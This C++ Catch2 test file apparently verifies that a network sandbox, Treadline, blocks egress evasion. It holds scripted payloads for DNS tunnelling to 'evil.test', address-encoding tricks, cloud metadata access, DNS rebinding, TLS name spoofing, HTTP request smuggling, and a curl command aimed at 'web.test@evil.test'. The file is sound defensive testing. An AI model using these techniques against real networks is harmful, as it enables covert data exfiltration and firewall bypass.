// What a hostile program tries on the network, one attack a line. Each is shown to work without Treadline, where an ordinary
// user can do it at all; under a profile nothing of it is seen outside, and one violation tells of it.
#include <catch2/catch_test_macros.hpp>
#include <catch2/generators/catch_generators.hpp>

#include "tests/e2e/outside_world.h"

using namespace treadline::test;

namespace {

using Attack = NetworkAttack;

const std::string web = "connect: [\"web.test:80\", \"web.test:443\", \"other.test:80\", \"other.test:443\", \"*.wild.test:80\"]";

enum class Where : uint8_t { WithNamespaces, Everywhere }; // and where none can be made, degraded

void all_fail(const std::string& network, const std::vector<Attack>& attacks, Where where = Where::WithNamespaces) {
    OutsideWorld world;
    world.degraded = where == Where::Everywhere && GENERATE(false, true);
    CAPTURE(world.degraded);
    all_fail(world, network, attacks, world.degraded); // that they work is shown once
}

} // namespace

TEST_CASE("what rules allow goes through in the attacks' world, and nothing else is sent for it", "[e2e][egress][attack]") {
    const OutsideWorld world;
    const Sent sent = world.held(web, "print(http('web.test', 'GET /MARK HTTP/1.1\\nHost: web.test\\n\\n'))\n"
                                      "print(http('WEB.test.', 'GET /two HTTP/1.1\\nHost: web.TEST:80\\n\\n'))\n"
                                      "print(http('x.wild.test', 'GET /three HTTP/1.1\\nHost: x.wild.test\\n\\n'))\n"
                                      "print(tcp('web.test', 443, hello(names(b'web.test'))))\n"
                                      "print(tcp('web.test', 443, hello(names(b'web.test'), record=20)))\n"
                                      "h = hello(names(b'WEB.test')); print(tcp('web.test', 443, h[:3], h[3:60], h[60:]))\n");
    INFO(sent.err << sent.out << nlohmann::json(sent.seen).dump());
    CHECK(sent.violations.empty());
    CHECK(sent.saw("said 80 474554202f4d41524b"));
    CHECK(sent.saw("tcp 93.184.216.34 443"));
    for (const std::string& line : sent.seen) {
        CAPTURE(line);
        CHECK((line.starts_with("dns web.test A") || line.starts_with("dns x.wild.test A") || line.starts_with("tcp 93.184.216.34 ") || line.starts_with("said ")));
    }
}

TEST_CASE("no form of an address leads past the rules", "[e2e][egress][attack]") {
    const std::string to = ", 8080)\n";
    std::vector<Attack> attacks;
    for (const char* address : {"9.9.9.9", "151587081", "011.011.011.011", "0x09090909", "9.592137", "0x9.9.011.9"}) {
        attacks.push_back({address, std::string("tcp('") + address + "'" + to, "tcp 9.9.9.9 8080"});
    }
    attacks.push_back({"IPv4 in IPv6", "tcp('::ffff:9.9.9.9'" + to, "tcp 9.9.9.9 8080"});
    for (const char* address : {"2001:4860:4860::8888", "64:ff9b::909:909", "2002:909:909::1", "fd00::1", "10.0.0.1", "172.16.0.1", "192.168.0.1", "100.64.0.1",
                                "169.254.169.254", "168.63.129.16", "192.0.2.1", "240.0.0.1"}) {
        attacks.push_back({address, std::string("tcp('") + address + "'" + to, std::string("tcp ") + address + " 8080"});
    }
    attacks.push_back({"an allowed name's port that no rule names", "tcp('web.test'" + to, "tcp 93.184.216.34 8080"});
    all_fail(web, attacks, Where::Everywhere);
    // Without namespaces the C library does not find the number of a device.
    all_fail(web, {{"a scope id", "tcp('fe80::1%lo'" + to, "tcp fe80::1 8080"}});
}

TEST_CASE("nothing but TCP has a way out, in whatever way it is sent", "[e2e][egress][attack]") {
    const std::string message = "class H(ctypes.Structure): _fields_ = [('name', ctypes.c_void_p), ('len', ctypes.c_uint), ('iov', ctypes.c_void_p), ('n', ctypes.c_size_t), "
                                "('c', ctypes.c_void_p), ('cl', ctypes.c_size_t), ('f', ctypes.c_int), ('sent', ctypes.c_uint), ('pad', ctypes.c_uint)]\n"
                                "to = ctypes.create_string_buffer(struct.pack('<H', 2) + struct.pack('>H', 443) + socket.inet_aton('9.9.9.9') + b'\\0' * 8)\n"
                                "data = ctypes.create_string_buffer(MARK); iov = (ctypes.c_size_t * 2)(ctypes.addressof(data), 6)\n"
                                "h = H(ctypes.addressof(to), 16, ctypes.addressof(iov), 1, 0, 0, 0, 0, 0)\n"
                                "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                                "print(ctypes.CDLL(None).sendmmsg(s.fileno(), ctypes.byref(h), 1, 0))\n";
    all_fail(web, {
        {"UDP, as QUIC", "udp('9.9.9.9', 443)\n", "udp 9.9.9.9 443"},
        {"UDP to an allowed name's port", "udp('93.184.216.34', 443)\n", "udp 93.184.216.34 443"},
        {"UDP over IPv6", "udp('2001:4860:4860::8888', 443, family=socket.AF_INET6)\n", "udp 2001:4860:4860::8888 443"},
        {"UDP, IPv4 in IPv6", "udp('::ffff:9.9.9.9', 443, family=socket.AF_INET6)\n", "udp 9.9.9.9 443"},
        {"UDP connected", "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('9.9.9.9', 443)); s.send(MARK)\n", "udp 9.9.9.9 443"},
        // Calls that the supervisor does not look at; the sandbox's firewall does.
        {"sendmsg", "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendmsg([MARK], [], 0, ('9.9.9.9', 443))\n", "udp 9.9.9.9 443"},
        {"sendmsg over IPv6", "socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendmsg([MARK], [], 0, ('2001:4860:4860::8888', 443))\n", "udp 2001:4860:4860::8888 443"},
        {"sendmmsg", message, "udp 9.9.9.9 443"},
        {"multicast", "udp('224.0.0.251', 5353)\n", "udp 224.0.0.251 5353"},
        {"broadcast", "udp('255.255.255.255', 9)\n", ""},
        {"TCP disconnected (AF_UNSPEC) and connected elsewhere",
         "s = socket.socket(); s.connect(('web.test', 80))\n"
         "ctypes.CDLL(None).connect(s.fileno(), b'\\0' * 16, 16)\n"
         "s.connect(('9.9.9.9', 80)); s.sendall(b'GET / HTTP/1.1\\r\\nHost: web.test\\r\\n\\r\\n'); s.recv(10)\n", "tcp 9.9.9.9 80"},
        {"TCP fast open", "s = socket.socket(); s.settimeout(None); s.sendto(MARK, 0x20000000, ('9.9.9.9', 8080)); s.settimeout(3); s.recv(10)\n", "tcp 9.9.9.9 8080"},
        {"multipath TCP", "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262); s.connect(('9.9.9.9', 8080)); s.sendall(MARK)\n", "tcp 9.9.9.9 8080", 0},
        {"UDP-Lite", "socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136).sendto(MARK, ('9.9.9.9', 443))\n", "other 136"},
        {"SCTP", "socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132).connect(('9.9.9.9', 80))\n", ""},
        {"ping", "socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1).sendto(b'\\x08\\0\\xf7\\xff\\0\\0\\0\\0', ('9.9.9.9', 0))\n", ""},
        {"a raw socket", "socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)\n", ""},
        {"a packet socket", "socket.socket(17, socket.SOCK_RAW, 0x300)\n", ""},
        {"routing tables", "socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12)\n", ""},
        {"the hypervisor", "socket.socket(40, socket.SOCK_STREAM, 0).connect((2, 22))\n", ""},
        {"Bluetooth", "socket.socket(31, socket.SOCK_RAW, 1)\n", ""},
    });
}

TEST_CASE("lookups carry nothing out, whoever is asked and for whatever", "[e2e][egress][attack]") {
    std::vector<Attack> attacks = {
        {"labels that hold data", "look_up('c2VjcmV0.evil.test')\n", "dns c2vjcmv0.evil.test"},
        {"labels below an allowed name", "look_up('c2VjcmV0.web.test')\n", "dns c2vjcmv0.web.test"},
        {"labels below a wildcard, never used", "look_up('c2VjcmV0.wild.test')\n", "dns c2vjcmv0.wild.test", 0},
        {"another resolver", "dns('x.evil.test', 1, '8.8.8.8')\n", "dns x.evil.test A"},
        {"another resolver over TCP", "dns_tcp('x.evil.test', 1, '8.8.8.8')\n", "dns x.evil.test A"},
        {"the usual resolver over TCP", "dns_tcp('x.evil.test')\n", "dns x.evil.test A"},
        {"systemd-resolved's address", "dns('x.evil.test', 1, '127.0.0.53')\n", "dns x.evil.test A"},
        {"DNS over TLS", "tcp('9.9.9.9', 853, hello(names(b'dns.test')))\n", "tcp 9.9.9.9 853"},
        {"DNS over HTTPS by address", "tcp('9.9.9.9', 443, hello(names(b'web.test')))\n", "tcp 9.9.9.9 443"},
        {"DNS over HTTPS by name", "tcp('dns.evil.test', 443, hello(names(b'dns.evil.test')))\n", "dns dns.evil.test"},
        {"multicast DNS", "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(question('x.local', 1), ('224.0.0.251', 5353))\n", "udp 224.0.0.251 5353"},
        {"LLMNR", "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(question('x', 1), ('224.0.0.252', 5355))\n", "udp 224.0.0.252 5355"},
        {"bytes that are no question", "udp('8.8.8.8', 53)\n", "udp 8.8.8.8 53"},
        {"another class", "dns('web.test', 16, klass=3)\n", "dns web.test TXT"},
        {"an update", "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect((resolver(), 53)); s.send(b'\\0\\7\\x28' + question('x.evil.test', 6)[3:]); s.recv(512)\n",
         "dns x.evil.test"},
    };
    for (const auto& [name, number] : std::vector<std::pair<std::string, int>>{{"TXT", 16}, {"NULL", 10}, {"ANY", 255}, {"PTR", 12}, {"HTTPS", 65}, {"SVCB", 64}, {"CNAME", 5}}) {
        attacks.push_back({name + " of a name", "dns('x.evil.test', " + std::to_string(number) + ")\n", "dns x.evil.test " + name});
        attacks.push_back({name + " of an allowed name", "dns('web.test', " + std::to_string(number) + ")\n", "dns web.test " + name, 0});
    }
    all_fail(web, attacks);
}

TEST_CASE("a name that is like an allowed one is another name", "[e2e][egress][attack]") {
    const auto looks_up = [](const std::string& name) { return "look_up('" + name + "')\n"; };
    all_fail(web, {
        {"a prefix", looks_up("evilweb.test"), "dns evilweb.test"},
        {"a suffix", looks_up("web.test.evil.test"), "dns web.test.evil.test"},
        {"the name below which a wildcard allows", looks_up("wild.test"), "dns wild.test"},
        {"one that ends like a wildcard's", looks_up("xwild.test"), "dns xwild.test"},
        {"a homograph in ASCII's form", looks_up("xn--wb-nlc.test"), "dns xn--wb-nlc.test"},
        {"a homograph as bytes", "dns([b'w\\xd0\\xb5b', b'test'])\n", "dns w"},
        {"NUL in a label", "dns([b'web', b'test\\0', b'evil', b'test'])\n", "evil.test A"},
        {"a line's end in a label", "dns([b'web.test\\r\\n', b'evil', b'test'])\n", "evil.test A"},
        {"a dot in a label", "dns([b'web.test', b'evil', b'test'])\n", "dns web.test.evil.test"},
        {"a dot in a label, for the whole name", "dns([b'web.test'])\n", "dns web.test A"},
        {"a user before the name", "os.system('curl -sS -m 3 http://web.test@evil.test/ > /dev/null')\n", "dns evil.test"},
        {"a single label", looks_up("web"), "dns web"},
    });
    all_fail("connect: []", {{"any name, where the list is empty and nobody answers", looks_up("web.test"), "dns web.test", 0}});
    all_fail("connect: [\"host:80\"]", {{"`host`, which in rules is no name", looks_up("host"), "dns host"}});
}

TEST_CASE("an allowed name that leads where rules do not is refused, as soon as one of its addresses does", "[e2e][egress][attack]") {
    std::vector<Attack> attacks;
    std::string list;
    for (const auto& [name, address] : std::vector<std::pair<std::string, std::string>>{
             {"loop", "127.0.0.1"}, {"private", "10.1.2.3"}, {"metadata", "169.254.169.254"}, {"unique6", "fd00::1"}, {"nat64", "64:ff9b::a01:203"},
             {"shared", "100.64.0.1"}, {"azure", "168.63.129.16"}, {"mixed", "192.168.1.1"}, {"alias", "10.1.2.3"}}) {
        const std::string host = name + ".test";
        list += "\"" + host + ":80\", ";
        attacks.push_back({host, "for one in {a[4][0] for a in look_up('" + host + "')}: quietly(http, one, 'GET / HTTP/1.1\\nHost: " + host + "\\n\\n')\n", "tcp " + address + " 80"});
    }
    const OutsideWorld world;
    for (const Attack& attack : attacks) { // its name is looked up outside: that is what the rule allows
        INFO("attack: " << attack.name);
        CHECK(world.without(attack.script).saw(attack.sign));
        const Sent held = world.held("connect: [" + list + "]", attack.script);
        INFO("held: " << nlohmann::json(held.seen).dump() << held.err << held.violations.dump(1));
        CHECK(held.violations.size() == 1);
        CHECK(held.saw("dns " + attack.name));
        CHECK_FALSE(held.saw("tcp "));
        CHECK_FALSE(held.saw("said "));
    }
    // The second answer is another one than the first.
    const std::string twice = "for path in ('/one', '/two'): quietly(http, 'rebind.test', 'GET ' + path + ' HTTP/1.1\\nHost: rebind.test\\nConnection: close\\n\\n')\n";
    CHECK(world.without(twice).saw("tcp 127.0.0.1 80"));
    const Sent held = world.held("connect: [\"rebind.test:80\"]", twice);
    INFO("held: " << nlohmann::json(held.seen).dump() << held.err << held.violations.dump(1));
    CHECK(held.violations.size() == 1);
    CHECK(held.saw("tcp 93.184.216.34 80"));
    CHECK_FALSE(held.saw("tcp 127.0.0.1 80"));
}

TEST_CASE("TLS that could be read as asking for another name reaches nobody", "[e2e][egress][attack]") {
    const std::string mark = "5345435245545345";
    const auto says = [](const std::string& extensions) { return "tcp('web.test', 443, hello(" + extensions + "))\n"; };
    all_fail(web, {
        {"another allowed name", says("names(b'other.test')"), mark},
        {"no name", says(""), mark},
        {"an empty name", says("names(b'')"), mark},
        {"two names", says("names(b'web.test', b'other.test')"), mark},
        {"the extension twice", says("names(b'web.test'), names(b'other.test')"), mark},
        {"a name of another kind", says("names(b'web.test', kind=1)"), mark},
        {"another name, split over records", says("names(b'other.test'), record=10"), mark.substr(0, 6)},
        {"another name, split over segments", "h = hello(names(b'other.test')); tcp('web.test', 443, h[:1], h[1:5], h[5:50], h[50:])\n", mark},
        {"NUL behind the name", says("names(b'web.test\\0.evil.test')"), mark},
        {"an address", says("names(b'93.184.216.34')"), mark},
        {"a wildcard", says("names(b'*.test')"), mark},
        {"an encrypted hello, or a decoy of one", says("names(b'web.test'), extension(0xfe0d, b'\\0' * 60)"), mark},
        {"a length that lies", "h = hello(names(b'web.test')); tcp('web.test', 443, h[:5] + b'\\x01\\0\\0\\x20' + h[9:])\n", mark},
        {"SSL 2", "tcp('web.test', 443, b'\\x80\\x2e\\x01\\0\\x02\\0\\x15\\0\\0\\0\\x10' + MARK * 4)\n", mark},
        {"no TLS at all", "tcp('web.test', 443, b'SSH-2.0-' + MARK * 4 + b'\\r\\n')\n", mark},
        {"HTTP on TLS's port, for another host", "http('web.test', 'GET /SECRETSECRET HTTP/1.1\\nHost: other.test\\n\\n', port=443)\n", mark},
    }, Where::Everywhere);
}

TEST_CASE("HTTP that could be read as being for another host reaches nobody", "[e2e][egress][attack]") {
    const std::string mark = "534543524554";
    const auto says = [](const std::string& request) { return "http('web.test', '" + request + "')\n"; };
    all_fail(web, {
        {"another Host", says("GET /SECRET HTTP/1.1\\nHost: other.test\\n\\n"), mark},
        {"no Host", says("GET /SECRET HTTP/1.1\\n\\n"), mark},
        {"an empty Host", says("GET /SECRET HTTP/1.1\\nHost:\\n\\n"), mark},
        {"two Hosts", says("GET /SECRET HTTP/1.1\\nHost: web.test\\nHost: other.test\\n\\n"), mark},
        {"the same Host twice", says("GET /SECRET HTTP/1.1\\nHost: web.test\\nHost: web.test\\n\\n"), mark},
        {"two hosts in one Host", says("GET /SECRET HTTP/1.1\\nHost: web.test, other.test\\n\\n"), mark},
        {"another port in Host", says("GET /SECRET HTTP/1.1\\nHost: web.test:8080\\n\\n"), mark},
        {"a user in Host", says("GET /SECRET HTTP/1.1\\nHost: web.test@other.test\\n\\n"), mark},
        {"another address in the target", says("GET http://other.test/SECRET HTTP/1.1\\nHost: web.test\\n\\n"), mark},
        {"a user in the target", says("GET http://web.test@other.test/SECRET HTTP/1.1\\nHost: web.test\\n\\n"), mark},
        {"another scheme in the target", says("GET ftp://web.test/SECRET HTTP/1.1\\nHost: web.test\\n\\n"), mark},
        {"a space before the colon", says("GET /SECRET HTTP/1.1\\nHost : web.test\\n\\n"), mark},
        {"a folded line", says("GET /SECRET HTTP/1.1\\nHost: web.test\\nX: y\\n Host: other.test\\nHost: web.test\\n\\n"), mark},
        {"lines that end in LF alone", "tcp('web.test', 80, b'GET /SECRET HTTP/1.1\\nHost: web.test\\n\\n')\n", mark},
        {"CR alone in a line", "tcp('web.test', 80, b'GET /SECRET HTTP/1.1\\r\\nHost: web.test\\r\\nX: y\\rHost: other.test\\r\\n\\r\\n')\n", mark},
        {"NUL in a line", "tcp('web.test', 80, b'GET /SECRET HTTP/1.1\\r\\nHost: web.test\\0other.test\\r\\n\\r\\n')\n", mark},
        {"a length told in two ways", says("POST /SECRET HTTP/1.1\\nHost: web.test\\nContent-Length: 4\\nTransfer-Encoding: chunked\\n\\n0\\n\\nGET / HTTP/1.1\\nHost: other.test\\n\\n"), mark},
        {"two lengths", says("POST /SECRET HTTP/1.1\\nHost: web.test\\nContent-Length: 0\\nContent-Length: 40\\n\\nGET / HTTP/1.1\\nHost: other.test\\n\\n"), mark},
        {"a length that is none", says("POST /SECRET HTTP/1.1\\nHost: web.test\\nContent-Length: +4\\n\\nabcd"), mark},
        {"a coding nobody knows", says("POST /SECRET HTTP/1.1\\nHost: web.test\\nTransfer-Encoding: xchunked\\n\\n0\\n\\n"), mark},
        {"CONNECT", says("CONNECT other.test:443 HTTP/1.1\\nHost: other.test:443\\nX: SECRET\\n\\n"), mark},
        {"CONNECT to the same host", says("CONNECT web.test:80 HTTP/1.1\\nHost: web.test:80\\nX: SECRET\\n\\n"), mark},
        {"an upgrade", says("GET /SECRET HTTP/1.1\\nHost: web.test\\nConnection: Upgrade\\nUpgrade: websocket\\n\\n"), mark},
        {"HTTP/2 by upgrade, an offer that is withdrawn", says("GET /first HTTP/1.1\\nHost: web.test\\nConnection: Upgrade, HTTP2-Settings\\nUpgrade: h2c\\nHTTP2-Settings: AAMAAABk\\n\\n"),
         "683263", 0, "2f6669727374"}, // h2c; /first
        {"HTTP/2 or something else by upgrade", says("GET /SECRET HTTP/1.1\\nHost: web.test\\nConnection: Upgrade\\nUpgrade: h2c, websocket\\n\\n"), mark},
        {"HTTP/2 and something else by upgrade", says("GET /SECRET HTTP/1.1\\nHost: web.test\\nConnection: Upgrade\\nUpgrade: h2c\\nUpgrade: websocket\\n\\n"), mark},
        {"HTTP/2 at once", says("PRI * HTTP/2.0\\n\\nSM\\n\\nSECRET"), mark},
        {"HTTP/0.9", says("GET /SECRET\\n"), mark},
        {"HTTP/1.1 in other words", says("GET /SECRET HTTP/1.2\\nHost: web.test\\n\\n"), mark},
        {"a header without end", "tcp('web.test', 80, b'GET /SECRET HTTP/1.1\\r\\nHost: web.test\\r\\nX: ' + b'x' * 100000)\n", mark},
        {"another Host in a second request", says("GET /first HTTP/1.1\\nHost: web.test\\n\\nGET /SECRET HTTP/1.1\\nHost: other.test\\n\\n"), mark, 1, "2f6669727374"},
        {"TLS on HTTP's port, for another name", "tcp('web.test', 80, hello(names(b'other.test')))\n", mark},
    }, Where::Everywhere);
}

TEST_CASE("what `listen` does not name is not bound, and nothing inside is reached unless it is published", "[e2e][egress][attack]") {
    all_fail(web + ", listen: [3000]", {
        {"another port", "own_loopback_server(3001)\n", ""},
        {"a port below 1024", "own_loopback_server(80)\n", ""},
        {"the gateway's port", "own_loopback_server(1)\n", ""},
        {"any port", "own_loopback_server(0)\n", ""},
    });
}

TEST_CASE("lookups that take long keep nobody waiting whom another rule allows", "[e2e][egress][attack]") {
    const OutsideWorld world;
    const Sent sent = world.held("connect: [\"*.slow.test:80\", \"web.test:80\"]",
                                 "import threading\n"
                                 "order = []\n"
                                 "def ask(name):\n"
                                 "    quietly(http, name, 'GET / HTTP/1.1\\nHost: ' + name + '\\nConnection: close\\n\\n'); order.append(name)\n"
                                 "socket.setdefaulttimeout(30)\n"
                                 "slow = [threading.Thread(target=ask, args=('%d.slow.test' % i,)) for i in range(24)]\n"
                                 "for one in slow: one.start()\n"
                                 "import time; time.sleep(0.5); ask('web.test')\n"
                                 "for one in slow: one.join()\n"
                                 "print(len(order), order.index('web.test') < 12)\n");
    INFO(sent.err << nlohmann::json(sent.seen).dump());
    CHECK(sent.out == "25 True\n");
    CHECK(sent.saw("tcp 93.184.216.34 80"));
}
